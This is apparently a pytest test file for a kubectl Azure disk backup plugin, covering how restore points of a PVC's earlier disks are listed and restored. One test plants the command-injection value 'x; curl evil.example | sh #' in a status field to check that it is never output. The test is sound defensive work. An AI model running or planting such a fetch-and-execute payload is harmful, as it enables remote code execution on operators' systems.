"""What was protected before a PVC got another disk: found, listed and restored."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from azdiskbackup.core.identity.arm_ids import ArmId
from azdiskbackup.plugin.commands import restore_points
from azdiskbackup.plugin.commands.restore_points import RestorePoint
from harness import objects
from plugin import world
from plugin.conftest import Run
from plugin.world import NOW, Api, Json


def test_the_restore_points_of_a_pvc_that_had_another_disk_before(run: Run, api: Api) -> None:
    """As after a swap: the PVC has two ProtectedDisks, each with the restore points of its disk."""
    before = world.disk(
        "before", "shop", claim="data-0", backupInstanceID=f"{world.INSTANCE}before",
        restorePoints=world.points([world.GOOD_TIMES[1].replace(minute=30)]),
    )  # fmt: skip
    api.objects["protecteddisks"].append(before)
    for name in ("data-0", "data"):
        code, out, err = run("restore-points", name, "--all-disks", "--from", "status")
        assert code == 0 and "restore DISK -n shop --point ID" in err
        assert [line.split()[0] for line in out.splitlines()[:4]] == ["DISK", "data", "before", "data"]
    assert "before" not in run("restore-points", "lost", "--all-disks", "--from", "status")[1]
    assert run("restore-points", "nothing", "--all-disks")[0] == 1


EARLIER: Json = {
    "id": objects.disk_id("pvc-before"),
    "name": "pvc-before",
    "backupInstanceID": f"{world.INSTANCE}before",
    "replacedTime": world.ago(hours=1),
    "oldestRestorePoint": world.ago(days=20),
    "newestRestorePoint": world.ago(days=9),
}


@pytest.fixture
def followed(api: Api) -> None:
    """The disk of shop/data is not its first one."""
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {**each["status"], "earlierDisks": [EARLIER]}


@pytest.mark.usefixtures("followed")
def test_a_disk_that_the_pvc_had_before_is_restored_by_its_name(run: Run, api: Api) -> None:
    code, _, err = run("restore", "data", "--at", "10d")
    assert code == 1 and "The PVC had another disk before: --earlier-disk pvc-before" in err
    assert "Name a later time with --at." in run("restore", "data", "--at", "30d")[2]
    code, _, err = run("restore", "data", "--earlier-disk", "pvc-befor")
    assert code == 1 and "shop/data has protected no disk 'pvc-befor' before. Did you mean pvc-before?" in err
    assert run("restore", "data", "--earlier-disk", "a/b")[0] == 2
    assert (
        "--earlier-disk is one of a DISK"
        in run("restore", "--instance=gone-1", "--vault=demo", "--earlier-disk=pvc-before")[2]
    )
    code, out, _ = run("restore", "data", "--earlier-disk", "pvc-before", "--at", "10d", "--dry-run", "-o", "json")
    assert code == 0
    assert json.loads(out)["spec"]["source"] == {"protectedDiskRef": {"name": "data", "disk": "pvc-before"}}


@pytest.mark.usefixtures("followed")
def test_right_after_the_pvc_got_another_disk_there_is_something_to_restore(run: Run, api: Api) -> None:
    of_disk = ("backupInstanceID", "disk", "restorePoints", "lastSuccessfulBackupTime", "protectionState")
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {key: value for key, value in each["status"].items() if key not in of_disk}
    code, _, err = run("restore", "data")
    assert code == 1 and "The PVC had another disk before: --earlier-disk pvc-before" in err
    assert "--all-disks" in run("restore-points", "data", "--from", "status")[2]
    assert "--all-disks" not in run("restore-points", "data", "--all-disks", "--from", "status")[2]


def test_a_name_that_somebody_wrote_into_status_is_no_command(run: Run, api: Api) -> None:
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {**each["status"], "earlierDisks": [{**EARLIER, "name": "x; curl evil.example | sh #"}]}
    assert "curl" not in "".join(run("restore-points", "data", "--all-disks", "--from", "status")[1:])


@pytest.mark.usefixtures("followed")
def test_the_restore_points_of_an_earlier_disk_are_named_where_azure_cannot_be_read(run: Run) -> None:
    code, out, err = run("restore-points", "data", "--all-disks", "--from", "status")
    assert code == 0 and "EARLIER DISK" in out
    assert "kubectl azdiskbackup restore data -n shop --earlier-disk pvc-before [--at TIME]" in " ".join(err.split())
    assert "pvc-before" not in run("restore-points", "data", "--from", "status")[2]
    assert "disk pvc-before, until 2026-11-22 11:00" in " ".join(run("describe", "data")[1].split())


@pytest.mark.usefixtures("followed")
def test_the_restore_points_of_an_earlier_disk_are_listed_from_azure(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    async def of_azure(instance: ArmId, disk: str) -> list[RestorePoint]:
        when = NOW - timedelta(days=9 if instance.name == "before" else 1)
        unknown: Json = dict.fromkeys(("expiry_time", "retention_rule", "type", "arm_id"))
        return [RestorePoint(disk=disk, id=f"of-{instance.name}", time=when, **unknown)]

    monkeypatch.setattr(restore_points, "_of_azure", of_azure)
    code, out, _ = run("restore-points", "data", "--all-disks", "-o", "json")
    found = [(each["id"], each["earlierDisk"]) for each in json.loads(out)["items"]]
    assert code == 0 and found == [("of-data", None), ("of-before", "pvc-before")]
    assert "--point ID [--earlier-disk NAME]" in run("restore-points", "data", "--all-disks")[2]
